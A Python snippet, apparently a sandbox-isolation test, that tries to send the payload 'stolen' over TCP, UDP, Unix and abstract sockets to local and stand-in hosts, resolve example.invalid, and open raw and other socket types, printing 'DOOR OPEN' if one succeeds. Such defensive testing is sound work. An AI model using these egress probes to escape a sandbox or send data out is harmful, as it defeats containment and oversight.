def tcp():
    with socket.create_connection(("127.0.0.1", PORT), timeout=1) as link:
        link.sendall(b"stolen")


def udp(family, address):
    with socket.socket(family, socket.SOCK_DGRAM) as link:
        link.settimeout(1)
        link.sendto(b"stolen", address)


def unix(address):
    with socket.socket(socket.AF_UNIX) as link:
        link.settimeout(1)
        link.connect(address)
        link.sendall(b"stolen")


attempt(tcp)
attempt(udp, socket.AF_INET, ("127.0.0.1", PORT))
attempt(udp, socket.AF_INET, ("192.0.2.1", 53))
attempt(udp, socket.AF_INET6, ("::1", PORT))
attempt(unix, REPO + "/socket")
attempt(unix, os.environ["ABSTRACT"].replace("@", "\0", 1))
attempt(socket.getaddrinfo, "example.invalid", 80)
for family, kind in ((16, socket.SOCK_RAW), (17, socket.SOCK_RAW), (40, socket.SOCK_STREAM), (2, socket.SOCK_RAW), (38, socket.SOCK_SEQPACKET)):
    attempt(lambda: print("DOOR OPEN", socket.socket(family, kind)))
attempt(lambda: print(socket.if_nameindex()))
